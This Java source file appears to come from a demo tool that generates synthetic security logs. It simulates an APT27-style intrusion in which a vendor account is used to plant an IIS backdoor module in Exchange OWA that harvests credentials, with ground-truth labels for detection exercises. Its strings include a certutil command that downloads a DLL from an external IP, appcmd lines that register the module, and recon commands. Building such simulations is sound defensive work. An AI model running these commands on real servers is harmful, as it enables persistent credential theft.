package org.dotlink.cli.demo;

import static org.dotlink.cli.demo.ScenarioTime.MINUTE;
import static org.dotlink.cli.demo.ScenarioTime.SECOND;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Cluster C, in the manner of Threat Group-3390 (APT27, G0027): an IIS module backdoor in OWA that
 * harvests credentials, brought in through the billing vendor's access.
 * <ol>
 *   <li>Friday 5 March, 07:40 UTC: the vendor's support account logs on to the jump host over the vendor
 *       VPN from an unknown laptop, looks around (whoami, quser, ipconfig, net, nltest, tasklist) and
 *       connects to EXCH01 with Remote Desktop; there certutil downloads a DLL, which is copied into
 *       OWA's bin folder, registered with appcmd as a module of /owa, and the OWA pool is recycled: the
 *       new IIS worker loads the unsigned DLL, and soon writes harvested logons to a file under the OWA
 *       folder, which the actor fetches over HTTPS days later;</li>
 *   <li>Wednesday 10 March the administrators remove the module before the Exchange update (benign);</li>
 *   <li>Friday 12 March the actor comes back the same way to EXCH02, with the same DLL (same hash) from
 *       another server, and fetches the harvest there.</li>
 * </ol>
 */
final class Apt27Intrusion implements Intrusion {

    static final String ID = "C";
    private static final List<String> INFRASTRUCTURE = List.of("185.239.226.61", "154.211.12.42", "172.20.5.14");
    private static final String VPN_IP = "172.20.5.14";
    private static final String LAPTOP = "DESKTOP-8F3K2QL";
    private static final String HARVEST = Binaries.OWA_FOLDER + "auth\\15.1.2176\\scripts\\premium\\flogon.dat";
    private static final String HARVEST_URI = "/owa/auth/15.1.2176/scripts/premium/flogon.dat";

    private final Scenario sc;
    private final Rng rng;
    private final Emit e;

    Apt27Intrusion(Scenario sc) {
        this.sc = sc;
        this.rng = new Rng(sc.seed(), "intrusion-c");
        this.e = sc.emit(null, rng);
    }

    private Emit step(String what) {
        return e.as(Label.step(ID, what));
    }

    @Override
    public GroundTruth.Cluster cluster() {
        Map<String, String> tools = new LinkedHashMap<>();
        tools.put(Binaries.C_OWA_BACKDOOR.path(), Binaries.C_OWA_BACKDOOR.sha256());
        return new GroundTruth.Cluster(ID, "APT27-like", "Threat Group-3390 / APT27 (G0027)",
                List.of("VENDOR-JMP01", "EXCH01", "EXCH02"), List.of("SUNDATEL\\vnd.support (vendor account, stolen)"),
                INFRASTRUCTURE, tools);
    }

    @Override
    public void plan(int day, Agenda agenda) {
        Network net = sc.network();
        switch (day) {
            case 4 -> {
                long t = ScenarioTime.at(4, 7, 40);
                agenda.at(t, () -> wave(net.host("EXCH01"), t, INFRASTRUCTURE.get(0), "kb4601318.dat"));
            }
            case 7, 8 -> {
                long t = ScenarioTime.at(day, 15, rng.between(0, 59));
                agenda.at(t, () -> fetch(net.host("EXCH01"), t, INFRASTRUCTURE.get(0)));
            }
            case ScenarioTime.PATCH_DAY -> {
                long t = ScenarioTime.at(day, 13, 35);
                agenda.at(t, () -> cleanup(net.host("EXCH01"), t));
            }
            case 11 -> {
                long t = ScenarioTime.at(11, 8, 10);
                agenda.at(t, () -> wave(net.host("EXCH02"), t, INFRASTRUCTURE.get(1), "kb4601319.dat"));
            }
            case 14, 17 -> {
                long t = ScenarioTime.at(day, 14, rng.between(0, 59));
                agenda.at(t, () -> fetch(net.host("EXCH02"), t, INFRASTRUCTURE.get(1)));
            }
            default -> { }
        }
    }

    private void wave(Host exchange, long t, String server, String file) {
        Network net = sc.network();
        Host jump = net.host("VENDOR-JMP01");
        Account vendor = net.account("vnd.support");
        Emit access = step("C1 vendor account used from the vendor VPN");
        Desktop d = Desktop.open(access, t, jump, vendor, 10, VPN_IP, LAPTOP, true);

        Emit recon = step("C2 discovery on the jump host");
        Proc cmd = d.run(recon, t + 2 * MINUTE, Binaries.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ");
        Object[][] commands = {{Binaries.WHOAMI, "whoami"}, {Binaries.QUSER, "quser"}, {Binaries.IPCONFIG, "ipconfig /all"},
            {Binaries.NET, "net group \"Exchange Trusted Subsystem\" /domain"},
            {Binaries.NLTEST, "nltest /dclist:sundatel.local"}, {Binaries.TASKLIST, "tasklist"},
            {Binaries.NET, "net view \\\\" + exchange.name()}};
        long at = t + 2 * MINUTE + 20 * SECOND;
        Host dc = net.host("DC02");
        for (Object[] c : commands) {
            String line = (String) c[1];
            Proc p = recon.start(at, cmd, (Binary) c[0], line);
            if (line.contains(" group ")) {
                recon.end(at + 1500, recon.start(at + 300, p, Binaries.NET1, "C:\\Windows\\system32\\net1  "
                        + line.substring(4)));
                Session q = recon.logon(at + 800, dc, vendor, 3, jump.ip(), jump.name(), true, false);
                recon.logoff(at + 3 * SECOND, dc, q, 3);
            }
            recon.end(at + rng.between(1, 6) * SECOND, p);
            at += rng.between(20, 80) * SECOND;
        }
        recon.end(at, cmd);

        Emit rdp = step("C3 Remote Desktop to the Exchange server");
        long r = at + rng.between(1, 3) * MINUTE;
        Proc mstsc = d.run(rdp, r, Binaries.MSTSC, "\"C:\\Windows\\system32\\mstsc.exe\" /v:" + exchange.name());
        rdp.connect(r + 2 * SECOND, mstsc, exchange.ip(), 3389, exchange.fqdn());
        Desktop x = Desktop.open(rdp, r + 7 * SECOND, exchange, vendor, 10, jump.ip(), jump.name(), true);

        Emit install = step("C4 OWA backdoor module installed");
        long i = r + rng.between(2, 4) * MINUTE;
        String temp = "C:\\Users\\" + vendor.name() + "\\AppData\\Local\\Temp\\" + file;
        Proc shell = x.run(install, i, Binaries.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ");
        Proc certutil = install.start(i + 30 * SECOND, shell, Binaries.CERTUTIL, "certutil -urlcache -split -f http://"
                + server + "/update/" + file + " " + temp);
        install.connect(i + 31 * SECOND, certutil, server, 80, null);
        install.file(i + 33 * SECOND, certutil, temp);
        install.end(i + 34 * SECOND, certutil);
        install.file(i + 91 * SECOND, shell, Binaries.C_OWA_BACKDOOR.path());
        Proc add = install.start(i + 3 * MINUTE, shell, Binaries.APPCMD, "C:\\Windows\\system32\\inetsrv\\appcmd.exe add"
                + " module /name:OwaAuthModule /type:\"Microsoft.Exchange.Clients.OwaAuth.AuthModule,"
                + " Microsoft.Exchange.Clients.OwaAuth\" /app.name:\"Default Web Site/owa\"");
        install.end(i + 3 * MINUTE + 2 * SECOND, add);
        long recycle = i + 4 * MINUTE;
        Proc rec = install.start(recycle, shell, Binaries.APPCMD, "C:\\Windows\\system32\\inetsrv\\appcmd.exe recycle"
                + " apppool /apppool.name:" + ExchangeActivity.OWA_POOL);
        install.end(recycle + 2 * SECOND, rec);
        Proc w3wp = ExchangeActivity.recycle(install, exchange, ExchangeActivity.OWA_POOL, recycle);
        install.load(recycle + 4 * SECOND, w3wp, Binaries.C_OWA_BACKDOOR, null);
        install.end(recycle + 3 * MINUTE, shell);
        x.close(install, recycle + 5 * MINUTE);
        rdp.end(recycle + 5 * MINUTE + 3 * SECOND, mstsc);
        d.close(access, recycle + 8 * MINUTE);

        step("C5 credentials harvested into a file under the OWA folder").file(recycle + rng.between(15, 40) * MINUTE,
                w3wp, HARVEST);
    }

    /** The actor downloads the harvested credentials over HTTPS. */
    private void fetch(Host exchange, long t, String from) {
        step("C6 harvested credentials fetched").web(t, exchange, "GET", HARVEST_URI, null, null, from,
                OwaTraffic.CHROME_UA, null, null, 200, rng.between(20, 300));
    }

    /** The administrators find and remove the module before the Exchange update: ordinary (benign) work. */
    private void cleanup(Host exchange, long t) {
        Account admin = sc.network().account("adm.rahman");
        Desktop d = Desktop.open(e, t, exchange, admin, 10, "10.8.0.23", "LT-RAHMAN", true);
        Proc cmd = d.run(e, t + MINUTE, Binaries.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ");
        Proc del = e.start(t + 2 * MINUTE, cmd, Binaries.APPCMD, "C:\\Windows\\system32\\inetsrv\\appcmd.exe delete"
                + " module OwaAuthModule /app.name:\"Default Web Site/owa\"");
        e.end(t + 2 * MINUTE + 2 * SECOND, del);
        e.end(t + 5 * MINUTE, cmd);
        d.close(e, t + 7 * MINUTE);
    }
}
